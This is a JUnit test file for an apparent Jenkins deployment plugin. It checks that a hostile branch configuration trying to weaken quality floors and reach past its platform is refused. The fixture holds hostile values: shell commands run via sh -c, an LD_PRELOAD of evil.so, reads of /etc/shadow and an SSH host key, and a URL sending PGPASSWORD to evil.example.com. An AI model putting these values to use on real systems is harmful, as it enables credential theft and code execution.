package io.jenkins.plugins.greenlight.cli;

import static org.assertj.core.api.Assertions.assertThat;

import io.jenkins.plugins.greenlight.config.ConfigReader;
import io.jenkins.plugins.greenlight.port.Command;
import io.jenkins.plugins.greenlight.port.Daemons;
import io.jenkins.plugins.greenlight.port.Http;
import io.jenkins.plugins.greenlight.port.Ports;
import io.jenkins.plugins.greenlight.report.Ending;
import io.jenkins.plugins.greenlight.report.ReportJson;
import io.jenkins.plugins.greenlight.stage.StageId;
import java.io.IOException;
import java.lang.reflect.Proxy;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import picocli.CommandLine;

/** A branch that may write greenlight.yaml and nothing else tries to get past its platform. */
@Timeout(60)
class HostileConfigTest {
    private static final String POLICY = """
            version: 1
            floors:
              security: {checks: ["critical == 0", "high == 0"]}
              coverage: {checks: ["line >= 80%"]}
              loadTest: {checks: ["errors < 1%", "p95 < 200 ms"]}
              staging: {watch: {checks: ["errors < 2%"]}}
              production: {watch: {checks: ["errors < 2%"], duration: 30s, minSamples: 100}}
            required: [security, coverage, loadTest, staging, image]
            commands: [psql]
            hosts: ["*.example.org"]
            secrets: [db-password]
            folders: [/var/lib/greenlight]
            """;
    private static final String HOSTILE = """
            version: 1
            app: shop
            security: {reports: [a.sarif], checks: ["critical <= 99"], mode: observe}
            coverage: {reports: [a.xml], checks: ["line >= 0%", "branch >= 80%"], onMissing: warn}
            loadTest:
              url: http://127.0.0.1:PORT
              rate: 1/s
              duration: 1s
              requests: [GET /]
              checks: ["errors <= 100%", "p95 < 200 s"]
            production:
              target: docker
              docker: {host: "tcp://127.0.0.1:PORT", bind: 0.0.0.0}
              slots: {blue: 18081, green: 18082}
              router:
                haproxy: {map: ELSEWHERE/map, socket: /var/run/docker.sock, port: 18080}
              watch:
                duration: 1s
                minSamples: 1
                checks: ["errors <= 100%"]
                prometheus: {url: "http://127.0.0.1:PORT", queries: {own: up}}
              state: postgresql://greenlight@127.0.0.1:PORT/greenlight
              folder: ELSEWHERE/folder
              secrets: {KEY: ssh@ssh_host_rsa_key, DB: db-password@7}
              secretsFolder: /etc
              migration:
                level: "1"
                expand: [sh, -c, "touch ELSEWHERE/ran"]
                status: [/bin/sh, -c, "touch ELSEWHERE/ran"]
                environment: {LD_PRELOAD: ./evil.so}
                secrets: {TOKEN: token@1}
            notification:
              outbox: outbox
              reportUrl: "http://evil.example.com/${PGPASSWORD}"
              webhook: {url: "http://127.0.0.1:PORT/", token: "${GITHUB_TOKEN}", headers: {X-Key: "${file:/etc/shadow}"}}
              email: {host: 127.0.0.1, port: PORT, from: a@example.org, to: [b@example.org], starttls: never, caFile: /etc/shadow}
            """;
    /** One for each thing that it tries. */
    private static final List<String> ALL = List.of(
            "security.mode is observe", "security.checks asks only for \"critical <= 99\"", "security.checks asks nothing of high",
            "coverage.onMissing is warn", "coverage.checks asks only for \"line >= 0%\"", "loadTest.checks asks only for \"errors <= 100%\"",
            "loadTest.checks asks only for \"p95 < 200 s\"", "has no staging.watch", "production.watch.checks asks only for \"errors <= 100%\"",
            "production.watch.duration is 1s", "production.watch.minSamples is 1", "has no staging, which", "has no image, which",
            "loadTest.url names the host \"127.0.0.1:PORT\"", "production.docker.host names the host \"127.0.0.1:PORT\"",
            "production.docker.bind names the host \"0.0.0.0\"", "production.router.haproxy.socket names the host \"unix:///var/run/docker.sock\"",
            "production.router.haproxy.map names the path", "production.watch.prometheus.url names the host",
            "production.state names the host", "production.folder names the path", "production.secretsFolder names the path \"/etc\"",
            "production.secrets.KEY asks for the secret \"ssh@ssh_host_rsa_key\"", "production.migration.secrets.TOKEN asks for the secret",
            "production.migration.expand runs the program \"sh\"", "production.migration.status runs the program \"/bin/sh\"",
            "production.migration.environment.LD_PRELOAD gives programs the variable",
            "notification.reportUrl asks for the secret \"PGPASSWORD\"", "notification.webhook.url names the host \"127.0.0.1:PORT\"",
            "notification.webhook.token asks for the secret \"GITHUB_TOKEN\"",
            "notification.webhook.headers.X-Key asks for the secret \"/etc/shadow\"",
            "notification.email.host names the host \"127.0.0.1:PORT\"", "notification.email.caFile names the path \"/etc/shadow\"");

    @TempDir Path workspace;
    @TempDir Path platform;
    private final AtomicInteger came = new AtomicInteger();
    private ServerSocket host;
    private Thread door;
    private String config;

    @BeforeEach void aHostWaitsForWhatIsPosted() throws IOException {
        host = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        door = new Thread(this::countWhoComes, "host");
        door.start();
        Files.createDirectory(platform.resolve("elsewhere"));
        config = filled(HOSTILE);
        Files.writeString(workspace.resolve("greenlight.yaml"), config);
        Files.writeString(platform.resolve("policy.yaml"), POLICY);
    }

    private String filled(String text) {
        return text.replace("PORT", Integer.toString(host.getLocalPort())).replace("ELSEWHERE", platform.resolve("elsewhere").toString());
    }

    /** Whoever comes is sent away at once, so that nobody waits for an answer. */
    private void countWhoComes() {
        while (!host.isClosed()) {
            try (var socket = host.accept()) {
                came.incrementAndGet();
            } catch (IOException e) {
                return;
            }
        }
    }

    /** Who comes last is this test itself: all before it were counted by then. */
    private int others() throws IOException, InterruptedException {
        try (var last = new Socket(host.getInetAddress(), host.getLocalPort())) {
            assertThat(last.getInputStream().read()).isNegative();
        }
        host.close();
        door.join();
        return came.get() - 1;
    }

    @AfterEach void nobodyCameAndNothingWasWritten() throws Exception {
        assertThat(others()).as("who came to the host").isZero();
        assertThat(platform.resolve("elsewhere")).isEmptyDirectory();
        try (var files = Files.walk(workspace)) {
            assertThat(files.filter(Files::isRegularFile).map(file -> workspace.relativize(file).toString()))
                    .allMatch(file -> file.equals("greenlight.yaml") || file.matches("target/greenlight/(report|runs)/.*"));
        }
    }

    private String[] line(String command) {
        return new String[] {command, "-w", workspace.toString(), "--policy", platform.resolve("policy.yaml").toString(), "--nonce", "n-1"};
    }

    @Test void wouldBeUnderstoodWithoutAPolicy() throws Exception {
        assertThat(ConfigReader.read(config, "greenlight.yaml").production()).isPresent();
    }

    @ParameterizedTest
    @ValueSource(strings = {"run", "security", "coverage", "image", "load", "production"})
    void isRefusedWithEverythingThatItTries(String command) throws Exception {
        var console = Console.run(line(command));

        assertThat(console.exitCode()).isEqualTo(Ending.BAD_INPUT.exitCode());
        var report = ReportJson.read(Files.readString(workspace.resolve("target/greenlight/report/report.json")), "n-1");
        assertThat(report.stages()).isEmpty();
        assertThat(report.deployment()).isEmpty();
        assertThat(report.message().lines()).hasSize(ALL.size()).allSatisfy(line -> assertThat(line).matches("greenlight\\.yaml:\\d+:\\d+: .*"));
        assertThat(ALL).allSatisfy(each -> assertThat(report.message()).contains(filled(each)));
        assertThat(ALL).allSatisfy(each -> assertThat(console.output()).contains(filled(each)));
    }

    @ParameterizedTest
    @ValueSource(strings = {"rollback", "resume", "status", "history", "unlock --reason=x", "guard --once", "retire"})
    void reachesNobodyByACommandForAnEnvironmentEither(String command) {
        var console = Console.run((command + " -w " + workspace + " --policy " + platform.resolve("policy.yaml")).split(" "));

        assertThat(console.exitCode()).isEqualTo(Ending.BAD_INPUT.exitCode());
        assertThat(console.errors()).contains("production.state names the host", "production.docker.host names the host")
                .doesNotContain("coverage");
    }

    @Test void startsNoProgramAndAsksNobody() throws Exception {
        var touched = new CopyOnWriteArrayList<String>();
        var command = new StageCommand(EnumSet.allOf(StageId.class), ports -> watched(ports, touched), Targets::new);

        int exitCode = new CommandLine(command).execute(withoutCommand(line("run")));

        assertThat(exitCode).isEqualTo(Ending.BAD_INPUT.exitCode());
        assertThat(touched).isEmpty();
    }

    private static String[] withoutCommand(String... line) {
        return List.of(line).subList(1, line.length).toArray(String[]::new);
    }

    private static Ports watched(Ports real, List<String> touched) {
        return new Ports((Command asked) -> {
            touched.add(asked.argv().toString());
            return real.commands().run(asked);
        }, watched(Daemons.class, real.daemons(), touched), real.workspace(), watched(Http.class, real.http(), touched), real.log(),
                real.clock(), real.pause());
    }

    private static <T> T watched(Class<T> port, T real, List<String> touched) {
        return port.cast(Proxy.newProxyInstance(port.getClassLoader(), new Class<?>[] {port}, (self, method, arguments) -> {
            touched.add(port.getSimpleName() + "." + method.getName());
            return method.invoke(real, arguments);
        }));
    }

    @Test void getsPastWithNoneOfItsTriesAlone() throws Exception {
        var passed = new ArrayList<String>();
        for (var floorless : List.of("commands: [psql]", "hosts: [\"*.example.org\"]", "secrets: [db-password]",
                "folders: [/var/lib/greenlight]")) {
            Files.writeString(platform.resolve("policy.yaml"), "version: 1\n" + floorless + "\n");
            if (Console.run(line("run")).exitCode() != Ending.BAD_INPUT.exitCode()) {
                passed.add(floorless);
            }
        }
        assertThat(passed).isEmpty();
    }
}
